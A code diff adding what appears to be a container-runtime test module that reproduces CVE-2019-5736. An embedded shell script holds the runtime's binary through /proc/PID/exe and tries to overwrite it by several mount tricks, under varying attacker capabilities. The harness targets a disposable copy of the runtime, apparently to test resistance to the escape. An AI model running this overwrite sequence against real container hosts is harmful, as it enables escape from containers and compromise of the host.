@@ -1,0 +1,96 @@
+"""CVE-2019-5736: the runtime's own binary, attacked from a container through /proc/PID/exe."""
+
+import os
+import re
+import shutil
+import subprocess
+
+from harness import attack, trace
+from harness.facts import CAPABILITIES
+from harness.onlooker import Onlooker
+
+# Whatever a runtime calls between its first moment inside and the program.
+STEPS = (
+    "setsid,keyctl,close_range,setgroups,setresgid,setresuid,capset,chdir,getcwd,umask,faccessat2"
+)
+EMPTY_PATH, CLONE, REMOUNT_BIND, FROM_EMPTY = 0x1000, 1, 0x1020, 4
+# Holds on to the file, and once nobody executes it any more (ETXTBSY) tries to change it: as it is,
+# by its mount, and by a copy of its mount.
+CLUTCH = f"""\
+read p <&4
+{{
+  echo held >&3
+  read word <&4
+  touch /target
+  /act mount @ /proc/self/fd/5 @ {REMOUNT_BIND} @ , fchmod 5 0777 , \\
+    fchmodat -100 /proc/self/fd/5 0777 , open_tree 5 '' {EMPTY_PATH | CLONE} , \\
+    mount @ /proc/self/fd/6 @ {REMOUNT_BIND} @ , move_mount 6 '' -100 /target {FROM_EMPTY}
+  for file in /proc/self/fd/5 /target; do
+    echo overwritten 1<> $file
+    echo overwritten > $file
+  done
+  echo tried >&3
+}} 5< /proc/$p/exe || echo denied >&3
+"""
+
+
+def everything():
+    """Every capability that can be given here."""
+    bits = int(re.search(r"CapBnd:\s(\w+)", trace.status_of("self"))[1], 16)
+    return [f"CAP_{name}" for number, name in enumerate(CAPABILITIES) if bits >> number & 1]
+
+
+# The least that opening another's /proc/PID/exe takes, while that has more rights.
+TRACER = ["CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE", "CAP_FOWNER"]
+ATTACKERS = {"privileged": everything(), "tracer": TRACER}
+WAYS = ("watched", "program", "script")
+
+
+def install_copy(box):
+    """Makes the box's runtime a copy, so that an attack that succeeds ruins that alone."""
+    if box.runtime.kind == "naive":
+        box.runtime.binary = attack.pathlib.Path(attack.install_naive(box.directory))
+        return
+    place = box.path("installed")
+    place.mkdir()
+    box.runtime.binary = shutil.copy(box.runtime.binary, place)
+
+
+def bring_libraries(box):
+    """What the runtime's binary is linked with, so that it can be executed in the container."""
+    binary = next(iter(attack.pathlib.Path(box.runtime.binary).parent.glob("interpreter")), None)
+    command = ["ldd", binary or box.runtime.binary]
+    said = subprocess.run(command, capture_output=True, text=True, check=False).stdout
+    for path in re.findall(r"(/\S+) \(0x", said):
+        place = box.rootfs / path.lstrip("/")
+        place.parent.mkdir(parents=True, exist_ok=True)
+        shutil.copy(path, place)
+
+
+def arguments(box, way):
+    """What exec is to execute: any program, the runtime itself, or a script that names it."""
+    if way == "watched":
+        return ["/bin/true"]
+    bring_libraries(box)
+    if way == "program":
+        return ["/proc/self/exe", "--version"]
+    script = box.rootfs / "script"
+    script.write_text("#!/proc/self/exe\n")
+    script.chmod(0o755)
+    return ["/script"]
+
+
+def overwrite(box, way, attacker, **more):
+    """Runs the attack; gives what the binary was and what it is, and what the attacker said, after
+    the name of the image that was attacked."""
+    before = attack.fingerprint(box.runtime.binary)
+    onlooker = Onlooker(box, CLUTCH, ATTACKERS[attacker])
+    words = ["exec", box.id, *arguments(box, way)]
+    names = STEPS if way == "watched" else "execve"
+    with trace.Halt(box, names, *words, wanted=trace.is_within, **more) as halt:
+        image = os.readlink(f"/proc/{halt.pid}/exe")
+        said = [onlooker.tell(trace.pid_within(halt.pid))]
+    os.sync()
+    if said[-1] == "held":
+        said.append(onlooker.tell("now"))
+    return before, attack.fingerprint(box.runtime.binary), [image, *said]
